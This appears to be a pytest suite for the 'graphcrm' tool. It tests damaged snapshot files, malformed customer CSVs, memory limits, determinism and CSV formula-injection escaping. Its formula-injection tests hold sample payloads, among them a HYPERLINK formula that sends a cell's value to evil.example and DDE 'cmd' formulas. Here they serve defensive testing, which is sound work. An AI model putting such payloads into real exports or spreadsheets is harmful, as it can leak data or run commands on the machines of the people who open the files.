"""Adversarial inputs, generated at test time from real shared files: damaged snapshots, formula injection.

Every case asserts the user-facing outcome: one ``error:`` line and exit 1 (never a traceback or a crash
signal), or -- for exports -- cells a spreadsheet will not evaluate.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from graphcrm.demo import sample_path


def graphcrm(*args) -> subprocess.CompletedProcess:
    exe = shutil.which("graphcrm") or str(Path(sys.executable).with_name("graphcrm"))
    return subprocess.run([exe, *map(str, args)], capture_output=True, text=True,
                          env={**os.environ, "GRAPHCRM_PROGRESS": "0"})


@pytest.fixture(scope="module")
def good_snapshot(tmp_path_factory):
    snap = tmp_path_factory.mktemp("adv") / "sample"
    proc = graphcrm("load", "--interactions", sample_path(), "--format", "higgs", "--out", snap)
    assert proc.returncode == 0, proc.stderr
    return snap


def npy_data_offset(path: Path) -> int:
    with open(path, "rb") as fh:
        np.lib.format.read_magic(fh)
        np.lib.format.read_array_header_1_0(fh)
        return fh.tell()


def flip_middle_indptr(snap: Path):
    f = snap / "layers/retweets/out_indptr.npy"
    raw = bytearray(f.read_bytes())
    start = npy_data_offset(f)
    mid = start + 8 * ((len(raw) - start) // 16)
    raw[mid:mid + 8] = (2**40).to_bytes(8, "little")               # one row pointer far past the end
    f.write_bytes(bytes(raw))


def damage_npy_header(snap: Path):
    f = snap / "layers/retweets/out_indices.npy"
    raw = bytearray(f.read_bytes())
    raw[12:40] = b"{'descr': '<i4', 'fortran_o"                    # an unterminated header dict
    f.write_bytes(bytes(raw))


def unsorted_ids(snap: Path):
    f = snap / "ids.npy"
    ids = np.load(f)
    ids[[0, 1]] = ids[[1, 0]]
    np.save(f, ids)


def duplicate_ids(snap: Path):
    f = snap / "ids.npy"
    ids = np.load(f)
    ids[1] = ids[0]
    np.save(f, ids)


def zero_nodes(snap: Path):
    f = snap / "nodes.parquet"
    f.write_bytes(b"\0" * f.stat().st_size)


def truncate_events(snap: Path):
    f = snap / "layers/mentions/events.parquet"
    f.write_bytes(f.read_bytes()[:-100])


def indices_out_of_range(snap: Path):
    f = snap / "layers/replies/in_indices.npy"
    arr = np.load(f)
    arr[len(arr) // 2] = 10**8
    np.save(f, arr)


def wrong_dtype_in_header(snap: Path):
    """The header says int64 where float64 weights are stored: same size, every value read as garbage (QA F3)."""
    f = snap / "layers/retweets/out_weights.npy"
    raw = bytearray(f.read_bytes())
    at = raw.find(b"<f8")
    raw[at + 1:at + 3] = b"i8"
    f.write_bytes(bytes(raw))


DAMAGE = {"wrong dtype in a .npy header": wrong_dtype_in_header, "flipped indptr": flip_middle_indptr, "damaged .npy header": damage_npy_header,
          "unsorted ids": unsorted_ids, "duplicate ids": duplicate_ids, "zero-filled nodes.parquet": zero_nodes,
          "truncated events": truncate_events, "neighbour index out of range": indices_out_of_range}


@pytest.mark.parametrize("case", list(DAMAGE))
def test_a_damaged_snapshot_is_one_clear_line_for_every_verb(good_snapshot, tmp_path, case):
    snap = tmp_path / "snap"
    shutil.copytree(good_snapshot, snap)
    DAMAGE[case](snap)
    for verb in (["info"], ["info", "--verify"], ["rank", "--method", "pagerank", "--out", tmp_path / "r.csv"],
                 ["simulate", "--seeds", "88", "--runs", "100"]):
        proc = graphcrm(verb[0], snap, *verb[1:])
        assert proc.returncode == 1, (case, verb, proc.returncode, proc.stderr[-500:])
        assert proc.stderr.startswith("error:") and proc.stderr.count("\n") == 1, (case, verb, proc.stderr)
        assert "Traceback" not in proc.stderr and str(snap) in proc.stderr
    assert not (tmp_path / "r.csv").exists()


def test_verify_finds_a_flipped_byte_the_cheap_checks_cannot(good_snapshot, tmp_path):
    snap = tmp_path / "snap"
    shutil.copytree(good_snapshot, snap)
    f = snap / "layers/retweets/out_weights.npy"
    raw = bytearray(f.read_bytes())
    raw[-3] ^= 0x01                                                # a weight changes, every shape stays right
    f.write_bytes(bytes(raw))
    assert graphcrm("info", snap).returncode == 0
    proc = graphcrm("info", snap, "--verify")
    assert proc.returncode == 1 and "out_weights.npy does not match its checksum" in proc.stderr


def test_verify_passes_on_a_good_snapshot_and_reports_what_it_read(good_snapshot):
    proc = graphcrm("info", good_snapshot, "--verify", "--json")
    assert proc.returncode == 0, proc.stderr
    verified = json.loads(proc.stdout)["verified"]
    manifest = json.loads((good_snapshot / "manifest.json").read_text())
    assert verified == {"files": len(manifest["files"]), "bytes": sum(manifest["files"].values()),
                        "checksum": "blake2b-128"}


# ---------------------------------------------------------------------------- formula injection (OWASP)
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
            "\tTAB", "=1+1"]


def spreadsheet_would_run(cell: str) -> bool:
    from graphcrm.loaders.csvsafe import FORMULA_START, _NUMBER
    return cell.startswith(FORMULA_START) and not _NUMBER.match(cell)


def csv_cells(path: Path) -> list[str]:
    import csv
    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


@pytest.fixture(scope="module")
def injected(tmp_path_factory):
    """wiki-Vote with its six most-voted accounts renamed to formula payloads, plus one bad row."""
    import pandas as pd

    from tests.conftest import dataset

    work = tmp_path_factory.mktemp("inject")
    edges = pd.read_csv(dataset("wiki-Vote/wiki-Vote.txt.gz"), sep="\t", comment="#", names=["src", "dst"], dtype=str)
    top = edges.dst.value_counts().index[:len(PAYLOADS)]
    rename = dict(zip(top, PAYLOADS))
    edges = edges.replace({"src": rename, "dst": rename})
    path = work / "votes.csv"
    edges.to_csv(path, index=False, header=["source", "target"])
    with open(path, "a", encoding="utf-8") as fh:
        fh.write('=cmd|"/C calc"!A0,1,2,3\n')                   # a bad row: its raw text goes to the rejects file
    snap = work / "snap"
    proc = graphcrm("load", "--edges", path, "--layer", "votes", "--format", "csv", "--mode", "lenient", "--out", snap)
    assert proc.returncode == 0, proc.stderr
    return work, snap, set(PAYLOADS)


def test_csv_exports_escape_formulas_and_keep_the_text(injected, tmp_path):
    from graphcrm.loaders.csvsafe import unescape_cell

    work, snap, payloads = injected
    leaders, part = tmp_path / "leaders.csv", tmp_path / "part.csv"
    for verb in (["rank", snap, "--method", "degree", "--layer", "votes", "--top", "10000", "--out", leaders],
                 ["communities", snap, "--layer", "votes", "--out", part]):
        proc = graphcrm(*verb)
        assert proc.returncode == 0, proc.stderr
    rejects = work / "snap.rejects.csv"
    for path in (leaders, part, rejects):
        cells = csv_cells(path)
        assert not [c for c in cells if spreadsheet_would_run(c)], path
    # the escaping is a leading quote only: the ids come back exactly
    listed = {unescape_cell(c) for c in csv_cells(leaders)}
    assert payloads - {"\tTAB"} <= listed and "-2+3" in listed
    assert any(c.startswith("'=cmd") for c in csv_cells(rejects))
    # graphcrm reads its own CSV back unescaped: a partition file still names the accounts
    from graphcrm.tables import read_partition
    assert payloads - {"\tTAB"} <= set(read_partition(part).index.astype(str))
    # machine consumers: raw text on request; Parquet is never escaped
    raw = tmp_path / "raw.csv"
    exe = shutil.which("graphcrm")
    subprocess.run([exe, "rank", str(snap), "--method", "degree", "--layer", "votes", "--top", "20", "--out", str(raw)],
                   check=True, capture_output=True, env={**os.environ, "GRAPHCRM_CSV_RAW": "1"})
    assert "=1+1" in csv_cells(raw)
    pq_out = tmp_path / "leaders.parquet"
    assert graphcrm("rank", snap, "--method", "degree", "--layer", "votes", "--top", "20", "--out", pq_out).returncode == 0
    import pandas as pd
    assert "=1+1" in set(pd.read_parquet(pq_out).account_id.astype(str))


# ---------------------------------------------------------------------------- lenient loads with nothing usable
def test_lenient_load_of_a_file_with_no_good_row_keeps_the_previous_snapshot(good_snapshot, tmp_path):
    snap = tmp_path / "snap"
    shutil.copytree(good_snapshot, snap)
    before = {p.relative_to(snap): p.read_bytes() for p in snap.rglob("*") if p.is_file()}
    src = Path(sample_path())
    bad = tmp_path / "bad.txt"
    import gzip
    with gzip.open(src, "rt") as fh:                                  # real rows with their timestamps broken
        rows = [line.split() for _, line in zip(range(200), fh)]
    bad.write_text("".join(f"{a} {b} {t}x RT\n" for a, b, t, *_ in rows))
    proc = graphcrm("load", "--interactions", bad, "--format", "higgs", "--mode", "lenient", "--out", snap)
    assert proc.returncode == 1 and proc.stderr.startswith("error:") and proc.stderr.count("\n") == 1, proc.stderr
    assert "none of its 200 rows could be loaded" in proc.stderr and "unchanged" in proc.stderr
    after = {p.relative_to(snap): p.read_bytes() for p in snap.rglob("*") if p.is_file()}
    assert after == before
    rejects = tmp_path / "snap.rejects.csv"
    assert rejects.exists() and len(csv_cells(rejects)) > 200       # the user sees why
    proc = graphcrm("load", "--interactions", bad, "--format", "higgs", "--mode", "lenient", "--allow-empty",
                    "--out", tmp_path / "empty")
    assert proc.returncode == 0, proc.stderr


# ---------------------------------------------------------------------------- the customers loader
def customer_cases(tmp: Path) -> dict:
    """Damaged copies of the example CRM customers file: name -> (path, {mode: expected exit code})."""
    import gzip

    repo = Path(__file__).resolve().parents[1]
    good = (repo / "examples/crm/customers.csv").read_bytes()
    header, *rows = good.splitlines(keepends=True)
    cases = {
        "header only": (header, {"strict": 1, "lenient": 1}),
        "bad e-mail": (header + b"".join(rows[:20]) + b"C999999,Bad Row,not-an-email,,,,False\n",
                       {"strict": 1, "lenient": 0}),
        "bad churn flag": (header + b"".join(rows[:20]) + b"C999998,Bad Flag,,,,,maybe\n", {"strict": 1, "lenient": 0}),
        "column count": (header + b"".join(rows[:20]) + b"C999997,Too,Few\n", {"strict": 1, "lenient": 0}),
        "latin-1 bytes": (header + b"".join(rows[:20]) + b"C999996,Jos\xe9 Mart\xednez,,,,,False\n",
                          {"strict": 1, "lenient": 0}),
        "every row bad": (header + b"".join(b"C%06d,X,@@,,,,nope\n" % i for i in range(30)), {"strict": 1, "lenient": 1}),
        "field over 128 KiB": (header + b"".join(rows[:20]) + b"C999995," + b"A" * 200_000 + b",,,,,False\n",
                               {"strict": 0, "lenient": 0}),
    }
    out = {}
    for name, (data, expected) in cases.items():
        path = tmp / (name.replace(" ", "_") + ".csv")
        path.write_bytes(data)
        out[name] = (path, expected)
    truncated = tmp / "truncated.csv.gz"
    truncated.write_bytes(gzip.compress(good)[: len(good) // 8])
    out["truncated gzip"] = (truncated, {"strict": 1, "lenient": 1})
    return out


def test_customers_loader_every_damage_is_a_line_or_a_rejects_row(tmp_path):
    repo = Path(__file__).resolve().parents[1]
    accounts = repo / "examples/crm/accounts.csv"
    edges = tmp_path / "edges.txt"
    edges.write_text("1 2\n2 3\n")
    for name, (path, expected) in customer_cases(tmp_path).items():
        for mode, code in expected.items():
            out = tmp_path / f"snap-{mode}"
            proc = graphcrm("load", "--edges", edges, "--nodes", accounts, "--customers", path, "--mode", mode,
                            "--out", out, "--json")
            assert proc.returncode == code, (name, mode, proc.returncode, proc.stderr[-400:])
            assert "Traceback" not in proc.stderr, (name, mode, proc.stderr)
            if code:
                assert proc.stderr.startswith("error:") and str(path) in proc.stderr, (name, mode, proc.stderr)
                assert proc.stderr.count("\n") == 1, (name, mode, proc.stderr)
            elif mode == "lenient" and name != "field over 128 KiB":
                summary = json.loads(proc.stdout)
                source = next(s for s in summary["sources"] if s["source"] == str(path))
                assert sum(source["rejected"].values()) == 1 and summary["rejects_file"], (name, source)
            shutil.rmtree(out, ignore_errors=True)


def test_concurrent_failing_loads_always_exit_1(tmp_path):
    """30 failing loads, three at a time: the exit code is 1 every time (never 134 from a native abort)."""
    repo = Path(__file__).resolve().parents[1]
    cases = customer_cases(tmp_path)
    bad = [cases["bad e-mail"][0], cases["truncated gzip"][0], cases["every row bad"][0]]
    edges = tmp_path / "edges.txt"
    edges.write_text("1 2\n2 3\n")
    exe = shutil.which("graphcrm")
    codes = []
    for round_ in range(10):
        procs = [subprocess.Popen([exe, "load", "--edges", str(edges), "--nodes", str(repo / "examples/crm/accounts.csv"),
                                   "--customers", str(path), "--out", str(tmp_path / f"out{i}")],
                                  stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
                 for i, path in enumerate(bad)]
        for p in procs:
            _, err = p.communicate()
            codes.append(p.returncode)
            assert "terminate called" not in err and "Traceback" not in err, err
    assert codes == [1] * 30, codes


def test_implausible_values_load_with_a_warning(tmp_path):
    import gzip

    from tests.conftest import dataset

    with gzip.open(dataset("soc-sign-bitcoin/soc-sign-bitcoinalpha.csv.gz"), "rt") as fh:
        header, *rows = [line.rstrip("\n").split(",") for _, line in zip(range(2001), fh)]
    rows[7][2] = "1e308"
    signed = tmp_path / "alpha.csv"
    signed.write_text("".join(",".join(r) + "\n" for r in [header, *rows]))
    proc = graphcrm("load", "--signed", signed, "--out", tmp_path / "trust", "--json")
    assert proc.returncode == 0, proc.stderr
    assert "warning:" in proc.stderr and "1 ratings outside -10..+10" in proc.stderr and "1e+308" in proc.stderr
    source = json.loads(proc.stdout)["sources"][0]
    assert len(source["warnings"]) == 1
    picked = [r for r in rows[8:] if float(r[2]) < 0][:20] + [r for r in rows[8:] if float(r[2]) > 0][:30]
    follows = tmp_path / "follows.txt"
    follows.write_text("".join(f"{r[0]} {r[1]} {r[2]}\n" for r in picked))   # ratings mistaken for follow weights
    proc = graphcrm("load", "--edges", follows, "--out", tmp_path / "f")
    negative = sum(float(r[2]) < 0 for r in picked)
    assert negative > 0 and proc.returncode == 0, proc.stderr
    assert f"{negative} negative weights on layer 'follows'" in proc.stderr
    assert "--signed" in proc.stderr


# ---------------------------------------------------------------------------- determinism matrix
def test_same_answers_across_threads_and_input_row_order(tmp_path):
    """rank, communities (igraph and numba Leiden), simulate and plan: byte-identical outputs whatever the
    number of numba threads and the order of the input rows.  (Dask workers: tests/test_diffusion.py and
    tests/test_planning.py check simulate and plan against a LocalCluster.)"""
    from tests.conftest import dataset

    with gzip_open(dataset("wiki-Vote/wiki-Vote.txt.gz")) as fh:
        rows = [line for line in fh if line.strip() and not line.startswith("#")]
    (tmp_path / "orig.txt").write_text("".join(rows))
    order = np.random.default_rng(0).permutation(len(rows))
    (tmp_path / "shuffled.txt").write_text("".join(rows[i] for i in order))
    for name in ("orig", "shuffled"):
        assert graphcrm("load", "--edges", tmp_path / f"{name}.txt", "--layer", "votes",
                        "--out", tmp_path / name).returncode == 0
    exe = shutil.which("graphcrm")
    outputs = {}
    for name in ("orig", "shuffled"):
        for threads in ("1", "2"):
            env = {**os.environ, "NUMBA_NUM_THREADS": threads, "GRAPHCRM_PROGRESS": "0"}
            d = tmp_path / f"{name}-{threads}"
            d.mkdir()
            snap = str(tmp_path / name)
            runs = [["rank", snap, "--method", "pagerank", "--layer", "votes", "--out", str(d / "pr.csv")],
                    ["communities", snap, "--layer", "votes", "--out", str(d / "ig.csv")],
                    ["communities", snap, "--layer", "votes", "--engine", "numba", "--out", str(d / "nb.csv")],
                    ["simulate", snap, "--layer", "votes", "--seeds", "2565", "--runs", "2000", "--json"],
                    ["plan", snap, "--layer", "votes", "--k", "5", "--evaluate-runs", "500", "--json"]]
            got = []
            for argv in runs:
                proc = subprocess.run([exe, *argv], capture_output=True, text=True, env=env)
                assert proc.returncode == 0, (argv, proc.stderr)
                if "--json" in argv:
                    summary = json.loads(proc.stdout)
                    got.append(json.dumps({k: summary.get(k) for k in ("expected_reach", "ci95", "seeds")}))
            got += [(d / f).read_text() for f in ("pr.csv", "ig.csv", "nb.csv")]
            outputs[(name, threads)] = got
    first = outputs[("orig", "1")]
    for key, got in outputs.items():
        assert got == first, key


def gzip_open(path):
    import gzip
    return gzip.open(path, "rt")


# ---------------------------------------------------------------------------- memory caps
def test_a_load_too_big_for_max_memory_fails_before_reading(tmp_path):
    """A generated 50M-edge file: refused in seconds with the estimate, before any row is parsed."""
    import io
    import time

    import pyarrow as pa
    import pyarrow.csv as pacsv
    from isal import igzip

    from graphcrm.loaders.formats import estimate_rows

    n = 50_000_000
    rng = np.random.default_rng(0)
    table = pa.table({"a": rng.integers(0, 2_000_000, n, dtype=np.int32),
                      "b": rng.integers(0, 2_000_000, n, dtype=np.int32)})
    buf = io.BytesIO()
    pacsv.write_csv(table, buf, pacsv.WriteOptions(include_header=False, delimiter=" "))
    del table
    big = tmp_path / "big.txt.gz"
    with igzip.open(big, "wb", compresslevel=0) as fh:
        fh.write(buf.getbuffer())
    del buf
    assert abs(estimate_rows(big) - n) < 0.02 * n
    started = time.perf_counter()
    proc = graphcrm("load", "--edges", big, "--max-memory", "2GiB", "--out", tmp_path / "snap")
    assert time.perf_counter() - started < 20         # far less than parsing 50M rows would take
    assert proc.returncode == 1 and proc.stderr.count("\n") == 1, proc.stderr
    assert "~50,0" in proc.stderr and "more than --max-memory 2GiB" in proc.stderr
    assert not (tmp_path / "snap").exists()
    proc = graphcrm("load", "--edges", big, "--max-memory", "lots", "--out", tmp_path / "snap")
    assert proc.returncode == 2 and "Traceback" not in proc.stderr


# ---------------------------------------------------------------------------- review regressions
def test_erase_a_customer_linked_to_an_account_whose_id_was_escaped_in_csv(tmp_path):
    import pandas as pd

    from graphcrm.loaders import GraphBuilder
    from graphcrm.loaders.snapshot import load_snapshot, save_snapshot
    from graphcrm.crm.erase import erase_customer
    from graphcrm.crm.export import write_export

    snap = tmp_path / "snap"
    save_snapshot(GraphBuilder().add_edges("follows", ["@bob", "ann", "cy"], ["ann", "cy", "@bob"]).build(), snap)
    out = tmp_path / "exports"
    write_export(pd.DataFrame({"customer_id": ["c1"], "account_id": ["@bob"], "method": ["handle"],
                               "probability": [0.99], "evidence": ["exact:handle"]}), out / "links.csv", "links")
    assert "'@bob" in (out / "links.csv").read_text()                     # escaped for spreadsheets
    report = erase_customer(snap, "c1", exports=out)
    assert report["linked_accounts"] == ["@bob"]
    assert "@bob" not in set(load_snapshot(snap).id_map.ids.tolist())


def test_report_on_a_log_too_short_to_backtest_still_renders(tmp_path):
    log = tmp_path / "tiny.txt"
    log.write_text("1 2 1000 RT\n2 3 1000 RT\n3 1 100000 RT\n")
    snap = tmp_path / "snap"
    assert graphcrm("load", "--interactions", log, "--format", "higgs", "--out", snap).returncode == 0
    proc = graphcrm("report", snap, "--out", tmp_path / "r.html", "--runs", "100")
    assert proc.returncode == 0, proc.stderr
    assert (tmp_path / "r.html").exists()


def test_simulate_learned_json_is_valid_when_nothing_was_reached_later(tmp_path):
    log = tmp_path / "log.txt"
    log.write_text("1 2 1000 RT\n2 3 1000 RT\n4 5 100000 MT\n5 6 100000 MT\n")
    snap = tmp_path / "snap"
    assert graphcrm("load", "--interactions", log, "--format", "higgs", "--out", snap).returncode == 0
    proc = graphcrm("simulate", snap, "--layer", "retweets", "--prob", "learned", "--seeds", "1", "--runs", "200",
                    "--json")
    assert proc.returncode == 0, proc.stderr
    assert "Infinity" not in proc.stdout and "NaN" not in proc.stdout
    json.loads(proc.stdout)


def test_undirected_self_tie_is_one_arc():
    from graphcrm.loaders import GraphBuilder

    g = GraphBuilder(self_loops="keep").add_edges("friends", [1, 1], [1, 2], [3.0, 5.0], aggregate="sum").build()
    lay = g.layer("friends")
    assert lay.n_ties == 2 and lay.n_edges == 3
    w = dict(zip(zip(*[a.tolist() for a in lay.edge_arrays()[:2]]), lay.edge_arrays()[2].tolist()))
    assert w[(0, 0)] == 3.0 and w[(0, 1)] == w[(1, 0)] == 5.0


def test_customers_file_with_an_unclosed_quote_names_its_line_and_keeps_the_rest(tmp_path):
    """The reader took the unclosed field to the end of the file: strict named line 21 ("2 fields"), lenient lost
    14 of 20 customers without counting them (QA reliability F1)."""
    from graphcrm.loaders.customers import read_customers
    from graphcrm.loaders.errors import InputFileError

    rows = ["customer_id,name,email,phone,handle,city,churned"]
    names = ['"Open quote' if i == 5 else f"Name {i}" for i in range(20)]
    rows += [f"C{i},{names[i]},c{i}@x.com,,h{i},Paris,False" for i in range(20)]
    path = tmp_path / "customers.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    with pytest.raises(InputFileError, match=r"customers.csv, line 7: a quote opens a field in this line and is not closed"):
        read_customers(path)
    table, report = read_customers(path, mode="lenient")
    assert len(table) == 19 and dict(report.rejected) == {"unclosed_quote": 1}
    assert report.rejects.line.tolist() == [7]


@pytest.mark.parametrize("text, customers, rejected", [
    ('customer_id,name,city,email\nc1,Ann,Paris,a@x.com\nc2,Bo,"Flat 4\nLondon",b@x.com\n', ["c1", "c2"], {}),
    ('customer_id,name,city,email\r\nc1,Ann,"Flat 4\r\nParis",a@x.com\r\nc2,Bo,London,b@x.com\r\n', ["c1", "c2"], {}),
    ('customer_id,name,city,email\nc1,"Ann,Paris,a@x.com\nc2,Bo,London,b@x.com\nc3,Cy,"Rome",c@x.com\n'
     'c4,Di,Oslo,d@x.com\n', ["c2", "c3", "c4"], {"unclosed_quote": 1}),
])
def test_customers_multi_line_addresses_load_and_a_runaway_quote_is_one_reject(tmp_path, text, customers, rejected):
    """Review: a multi-line address in the last record was refused (the file did not end in a quote); a runaway
    quote closed by a later quoted field still swallowed customers."""
    from graphcrm.loaders.customers import read_customers

    path = tmp_path / "customers.csv"
    path.write_bytes(text.encode("utf-8"))
    table, report = read_customers(path, mode="lenient")
    assert table.customer_id.tolist() == customers and dict(report.rejected) == rejected


def test_an_append_refuses_an_array_whose_header_has_the_wrong_type(tmp_path):
    """The on-disk merge read arrays with whatever type their header declared and stored the result with fresh
    checksums: int64 bits became weights of 4.6e18, certified as good (review)."""
    from graphcrm.loaders import read_interactions, save_snapshot
    from graphcrm.loaders.builder import GraphBuilder
    from graphcrm.loaders.errors import SnapshotError
    from graphcrm.loaders.merge import append_snapshot

    snap = save_snapshot(GraphBuilder().add_events("retweets", [1, 2], [2, 3], time=[1, 2]).build(), tmp_path / "s")
    f = snap / "layers/retweets/out_weights.npy"
    raw = bytearray(f.read_bytes())
    at = raw.find(b"<f8")
    raw[at + 1:at + 3] = b"i8"
    f.write_bytes(bytes(raw))
    day = tmp_path / "day.csv"
    day.write_text("source,target,time,type\n3,4,10,RT\n")
    with pytest.raises(SnapshotError, match="out_weights.npy holds 1-d <i8 values where graphcrm writes 1-d <f8"):
        append_snapshot(snap, read_interactions(day))


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="'=+-@\t\r1.eaZ ", max_size=8))
def test_escaping_round_trips_every_text_and_never_leaves_a_formula(text):
    """QA: ``'=vip`` was written as is and read back as ``=vip`` (another account), so ``erase`` left the
    person's rows in the CSV exports."""
    from graphcrm.loaders.csvsafe import escape_cell, unescape_cell

    escaped = escape_cell(text)
    assert unescape_cell(escaped) == text
    assert not spreadsheet_would_run(escaped)
